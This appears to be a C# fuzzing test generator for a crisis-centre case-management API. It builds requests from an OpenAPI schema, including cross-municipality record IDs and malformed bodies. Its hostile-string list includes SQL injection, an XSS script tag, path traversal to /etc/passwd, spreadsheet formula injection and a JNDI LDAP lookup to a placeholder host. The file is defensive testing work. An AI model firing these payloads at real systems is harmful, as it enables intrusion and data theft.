using System.Text.Json;
using System.Text.Json.Nodes;

namespace CtiPlatform.Security.Tests.Fuzzing;

/// <summary>
/// Requests for one operation, built from its OpenAPI schema: well-formed bodies with hostile values in every field,
/// bodies with one field of the wrong type or missing, malformed JSON, and path and query values that name the
/// caller's own records, another municipality's, none, or are not values at all. Seeded, so a failure repeats.
/// </summary>
public sealed class RequestGenerator(JsonNode document, Random random, IReadOnlyList<string> ownIds, IReadOnlyList<string> foreignIds)
{
    private const int BodiesPerOperation = 8;
    private const int QueriesPerOperation = 5;

    private static readonly string[] HostileStrings =
    [
        "", " ", "Ida", "krisecenter-1", "cti-worker-101", "=HYPERLINK(\"http://example.invalid\")", "+SUM(1)", "@cmd", "-1",
        "'; drop table referrals; --", "<script>alert(1)</script>", "../../etc/passwd", "%2e%2e%2f", "\u0000", "\u202egnp.exe",
        "𝔘𝔫𝔦𝔠𝔬𝔡𝔢 😀", "010190-4321\n", "+45 12 34 56 78\n", "null", "{{7*7}}", "${jndi:ldap://example.invalid/a}",
        new string('x', 5000),
    ];

    private static readonly string[] Dates = ["2026-12-07", "2027-01-04", "0001-01-01", "9999-12-31", "2026-02-30", "1900-01-01", "07-12-2026", "not a date"];

    private static readonly string[] MalformedBodies =
    [
        "", "null", "[]", "{", "\"text\"", "{\"a\":" + new string('[', 5000) + new string(']', 5000) + "}", "12345678901234567890",
        "{\"woman\":{\"name\":\"x\",\"name\":\"y\"}}",
    ];

    public IEnumerable<FuzzRequest> For(OpenApiOperation operation)
    {
        foreach (var path in Paths(operation))
        {
            if (operation.Body is not null)
            {
                for (var i = 0; i < BodiesPerOperation; i++)
                {
                    yield return new FuzzRequest(operation.Method, path + Query(operation), Body(operation.Body, i));
                }
            }
            else
            {
                // The first query is plausible, as the first body is: a list must be reached past its validators by
                // design, not by the luck of a seed that changes whenever an operation is added before it.
                yield return new FuzzRequest(operation.Method, path + PlausibleQuery(operation), null);
                for (var i = 1; i < QueriesPerOperation; i++)
                {
                    yield return new FuzzRequest(operation.Method, path + Query(operation), null);
                }
            }
        }
    }

    /// <summary>The path with every template parameter filled: own record, foreign record, unknown, malformed.</summary>
    private IEnumerable<string> Paths(OpenApiOperation operation)
    {
        var templated = operation.Parameters.Where(p => p.In == "path").ToList();
        if (templated.Count == 0)
        {
            return [operation.Path];
        }

        return Enumerable.Range(0, 6).Select(variant => templated.Aggregate(operation.Path, (path, parameter) =>
            path.Replace("{" + parameter.Name + "}", Uri.EscapeDataString(PathValue(parameter.Schema, variant)))));
    }

    private string PathValue(JsonNode? schema, int variant)
    {
        var resolved = Resolve(schema);
        if (Format(resolved) == "date")
        {
            return Dates[variant % Dates.Length];
        }

        return variant switch
        {
            0 => Pick(ownIds),
            1 => Pick(foreignIds),
            2 => Guid.NewGuid().ToString(),
            3 => "not-a-guid",
            4 => "..",
            _ => Pick(HostileStrings),
        };
    }

    private string Query(OpenApiOperation operation)
    {
        var parts = operation.Parameters
            .Where(p => p.In == "query" && (p.Required || random.Next(3) > 0))
            .Select(p => $"{Uri.EscapeDataString(p.Name)}={Uri.EscapeDataString(Scalar(Resolve(p.Schema)))}")
            .ToList();
        return parts.Count == 0 ? "" : "?" + string.Join('&', parts);
    }

    /// <summary>Only the required query parameters, each with a plausible value.</summary>
    private string PlausibleQuery(OpenApiOperation operation)
    {
        var parts = operation.Parameters
            .Where(p => p.In == "query" && p.Required)
            .Select(p => $"{Uri.EscapeDataString(p.Name)}={Uri.EscapeDataString(Plausible(Resolve(p.Schema)!))}")
            .ToList();
        return parts.Count == 0 ? "" : "?" + string.Join('&', parts);
    }

    private string Body(JsonNode schema, int variant)
    {
        if (variant == BodiesPerOperation - 1)
        {
            return Pick(MalformedBodies);
        }

        var body = Value(schema, depth: 0, hostile: variant > 0);
        if (variant >= 4 && body is JsonObject fields && fields.Count > 0)
        {
            // One field of the wrong kind, or missing: the answer must name it rather than fail inside.
            var name = fields.Select(f => f.Key).ElementAt(random.Next(fields.Count));
            fields[name] = variant switch
            {
                4 => JsonValue.Create(12345),
                5 => new JsonArray(JsonValue.Create("x")),
                _ => null,
            };
        }

        return body?.ToJsonString() ?? "null";
    }

    /// <summary>
    /// A value for <paramref name="schema"/>: plausible when not hostile (so the request reaches the rules), hostile otherwise.
    /// A list of hostile length is made at most once on a path: lists of hundreds nested in each other built bodies of
    /// hundreds of megabytes, which took minutes to generate and were all stopped at the edge's 1 MB limit unseen.
    /// </summary>
    private JsonNode? Value(JsonNode? schema, int depth, bool hostile, bool insideLongList = false)
    {
        var resolved = Resolve(schema);
        if (resolved is null || depth > 6)
        {
            return null;
        }

        if (resolved["enum"] is JsonArray values && values.Count > 0)
        {
            return hostile && random.Next(4) == 0 ? JsonValue.Create("NotAMember") : values[random.Next(values.Count)]?.DeepClone();
        }

        switch (Type(resolved))
        {
            case "object":
                var result = new JsonObject();
                var required = (resolved["required"]?.AsArray() ?? []).Select(r => r!.GetValue<string>()).ToHashSet();
                foreach (var (name, property) in resolved["properties"]?.AsObject() ?? [])
                {
                    if (required.Contains(name) || !hostile || random.Next(4) > 0)
                    {
                        result[name] = Value(property, depth + 1, hostile, insideLongList);
                    }
                }

                return result;
            case "array":
                var longList = hostile && !insideLongList && random.Next(5) == 0;
                var count = longList ? 500 : random.Next(1, 4);
                return new JsonArray([.. Enumerable.Range(0, count).Select(_ => Value(resolved["items"], depth + 1, hostile, insideLongList || longList))]);
            case "integer":
                return hostile ? JsonValue.Create(new long[] { 0, -1, int.MaxValue, long.MinValue, 1_000_000 }[random.Next(5)]) : JsonValue.Create(random.Next(1, 10));
            case "number":
                return JsonValue.Create(hostile ? double.MaxValue : random.Next(1, 10));
            case "boolean":
                return JsonValue.Create(random.Next(2) == 0);
            default:
                return JsonValue.Create(hostile ? Scalar(resolved) : Plausible(resolved));
        }
    }

    private string Scalar(JsonNode? schema)
    {
        if (schema?["enum"] is JsonArray values && values.Count > 0 && random.Next(2) == 0)
        {
            return values[random.Next(values.Count)]!.ToString();
        }

        return (Type(schema), Format(schema)) switch
        {
            (_, "date") => Pick(Dates),
            (_, "uuid") => random.Next(2) == 0 ? Pick(foreignIds) : "not-a-guid",
            ("integer" or "number", _) => Pick(["0", "-1", "201", "2147483648", "1e9", "x"]),
            _ => Pick(HostileStrings),
        };
    }

    private string Plausible(JsonNode schema) => Format(schema) switch
    {
        "date" => Dates[random.Next(2)],
        "date-time" => "2026-12-07T10:00:00+01:00",
        "uuid" => Pick(ownIds),
        _ => Pick(["Ida", "Socialrådgiver", "Vurderet af krisecentret", "010190-4321", "+45 12 34 56 78", "cti-worker-101"]),
    };

    private JsonNode? Resolve(JsonNode? schema)
    {
        while (schema?["$ref"] is JsonNode reference)
        {
            var path = reference.GetValue<string>().TrimStart('#', '/').Split('/');
            schema = path.Aggregate<string, JsonNode?>(document, (node, segment) => node?[segment]);
        }

        var alternatives = schema?["oneOf"] as JsonArray ?? schema?["anyOf"] as JsonArray;
        if (alternatives is { Count: > 0 })
        {
            return Resolve(alternatives.FirstOrDefault(a => Type(Resolve(a)) != "null") ?? alternatives[0]);
        }

        return schema;
    }

    private static string? Type(JsonNode? schema) => schema?["type"] switch
    {
        JsonArray types => types.Select(t => t!.GetValue<string>()).FirstOrDefault(t => t != "null"),
        JsonValue type when type.GetValueKind() == JsonValueKind.String => type.GetValue<string>(),
        _ => schema?["properties"] is not null ? "object" : null,
    };

    private static string? Format(JsonNode? schema) => schema?["format"]?.GetValue<string>();

    private string Pick(IReadOnlyList<string> values) => values[random.Next(values.Count)];
}
